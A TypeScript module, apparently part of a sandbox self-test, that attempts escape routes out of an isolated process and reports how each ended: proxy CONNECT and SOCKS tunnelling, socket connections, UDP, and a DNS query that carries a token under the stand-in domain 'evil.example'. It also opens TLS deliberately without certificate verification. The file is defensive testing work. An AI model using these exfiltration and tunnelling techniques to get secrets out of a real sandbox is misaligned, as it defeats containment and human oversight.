// Tries the forms of the self-test from where this process is: inside of the isolation, or beside it. It judges nothing: the sink does.
import { createSocket } from "node:dgram";
import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import * as v from "valibot";
import { Failure } from "#base/failure.ts";
import type { Attempt, Form } from "./forms.ts";
import type { SinkPlaces } from "./sink.ts";

/** A form that nothing answers is over after this long. */
const ATTEMPT_MS_MAX = 2_500;
const ANSWER_CHARS = 80;

/** What somebody who tries is told. */
export type AttemptsWish = {
  readonly forms: readonly Form[];
  readonly tokens: Readonly<Record<string, string>>;
  readonly places: SinkPlaces;
};

/** How each ended, in a word or a first line. */
export type Endings = Readonly<Record<string, string>>;

const EndingsSchema = v.record(v.string(), v.pipe(v.string(), v.maxLength(200)));

/** Reads what a process inside printed. Throws a Failure for anything else. */
export function parseEndings(text: string): Endings {
  const read = v.safeParse(
    v.pipe(v.string(), v.parseJson(), EndingsSchema),
    text.trim().split("\n").at(-1),
  );
  if (!read.success)
    throw new Failure("selftest", "nothing that can be read came out of the isolation");
  return read.output;
}

/** Tries all at once. Never rejects. */
export async function tryForms(wish: AttemptsWish, proxy: URL): Promise<Endings> {
  const ended = await Promise.all(
    wish.forms.map(async ({ id, attempt }) => {
      const token = wish.tokens[id] ?? "";
      const ending = await tried(attempt, { token, places: wish.places, proxy }).catch(
        (cause: unknown) =>
          cause instanceof Error && "code" in cause ? String(cause.code) : "error",
      );
      return [id, ending.replaceAll(/[^\x20-\x7e]/g, "?").slice(0, ANSWER_CHARS)] as const;
    }),
  );
  return Object.fromEntries(ended);
}

type Around = { readonly token: string; readonly places: SinkPlaces; readonly proxy: URL };

async function tried(attempt: Attempt, around: Around): Promise<string> {
  const { token, places, proxy } = around;
  switch (attempt.kind) {
    case "say": {
      const { parts, to } = attempt;
      return talk(to === undefined ? toProxy(proxy) : placeOf(to, places), parts);
    }
    case "tls":
      return tunnelled(attempt, around);
    case "udp":
      return datagram(attempt.to === "udp" ? places.udp : places.dns, token, attempt.to === "dns");
    case "socks": {
      const messages = attempt.messages.map((message) =>
        Buffer.from(message, "hex").toString("latin1"),
      );
      return talk(toProxy(proxy), [...messages, attempt.last]);
    }
    case "follow": {
      const first = await talk(
        toProxy(proxy),
        [`GET ${attempt.url} HTTP/1.1\r\nHost: ${new URL(attempt.url).host}\r\n\r\n`],
        2_000,
      );
      const to = /Location: (\S+)/i.exec(first)?.[1];
      if (to === undefined) return first;
      return talk(toProxy(proxy), [`GET ${to} HTTP/1.1\r\nHost: ${new URL(to).host}\r\n\r\n`]);
    }
    default:
      return attempt satisfies never;
  }
}

function toProxy(proxy: URL): Socket {
  return connect({ host: proxy.hostname, port: Number(proxy.port) });
}

function placeOf(
  to: "tcp" | "tcp6" | "dns-tcp" | "socket" | "abstract",
  places: SinkPlaces,
): Socket {
  if (to === "socket") return connect({ path: places.socket });
  if (to === "abstract") return connect({ path: `\0${places.abstract}` });
  if (to === "tcp6") return connect({ host: "::1", port: places.tcp6 });
  return connect({ host: "127.0.0.1", port: to === "tcp" ? places.tcp : places.dnsTcp });
}

/** Says the parts, each after an answer to the one before; the last answer's beginning. */
function talk(socket: Socket, parts: readonly string[], chars = ANSWER_CHARS): Promise<string> {
  return new Promise((resolve, reject) => {
    const left = [...parts];
    let last = "";
    const next = (): void => {
      const part = left.shift();
      if (part !== undefined) socket.write(part, "latin1");
      else end();
    };
    const end = (): void => {
      clearTimeout(timer);
      // What was just sent has to arrive before the connection is gone.
      setTimeout(() => socket.destroy(), 200);
      const [line = ""] = last.slice(0, chars).split("\r\n");
      if (last.startsWith("\x05")) resolve(`SOCKS reply ${last.charCodeAt(1)}`);
      else if (last.startsWith("\x15")) resolve("TLS alert");
      else resolve(last === "" ? "no answer" : chars === ANSWER_CHARS ? line : last);
    };
    const timer = setTimeout(end, ATTEMPT_MS_MAX);
    socket.on("connect", next);
    socket.on("data", (bytes: Buffer) => {
      last = bytes.toString("latin1");
      next();
    });
    socket.on("close", end);
    socket.on("error", (cause) => {
      clearTimeout(timer);
      if (last === "") reject(cause);
      else end();
    });
  });
}

function tunnelled(
  { target, name, inside }: Extract<Attempt, { kind: "tls" }>,
  { token, proxy }: Around,
): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = toProxy(proxy);
    const end = (how: string): void => {
      clearTimeout(timer);
      setTimeout(() => socket.destroy(), 200);
      resolve(how);
    };
    const timer = setTimeout(() => end("no answer"), ATTEMPT_MS_MAX);
    socket.on("error", reject);
    socket.on("close", () => end("closed"));
    socket.once("connect", () =>
      socket.write(`CONNECT ${target} HTTP/1.1\r\nHost: ${target}\r\n\r\n`),
    );
    socket.once("data", (bytes: Buffer) => {
      const [line = ""] = bytes.toString("latin1").split("\r\n");
      if (!/ 200 /.test(line)) return end(line);
      // WHY without verifying: whose certificate it is does not matter here, only who is reached. The token stands in the clear.
      const secure = connectTls({
        socket,
        rejectUnauthorized: false,
        ALPNProtocols: ["http/1.1", token],
        ...(name === "" ? {} : { servername: name }),
      });
      secure.on("error", (cause: Error) =>
        end(/:([^:/]+):[^:]*ssl\/record/.exec(cause.message)?.[1] ?? "TLS failed"),
      );
      secure.once("secureConnect", () => {
        if (inside === undefined) return end("TLS with the host");
        secure.once("data", () => end("answered inside of TLS"));
        return void secure.write(inside);
      });
    });
  });
}

function datagram(port: number, token: string, isDns: boolean): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = createSocket("udp4");
    const name = [token, "evil", "example"]
      .map((label) => `${String.fromCharCode(label.length)}${label}`)
      .join("");
    const bytes = isDns
      ? Buffer.from(`\x12\x34\x01\0\0\x01\0\0\0\0\0\0${name}\0\0\x01\0\x01`, "latin1")
      : Buffer.from(token);
    socket.on("error", reject);
    socket.send(bytes, port, "127.0.0.1", (cause) => {
      setTimeout(() => socket.close(), 200);
      if (cause === null) resolve("sent");
      else reject(cause);
    });
  });
}
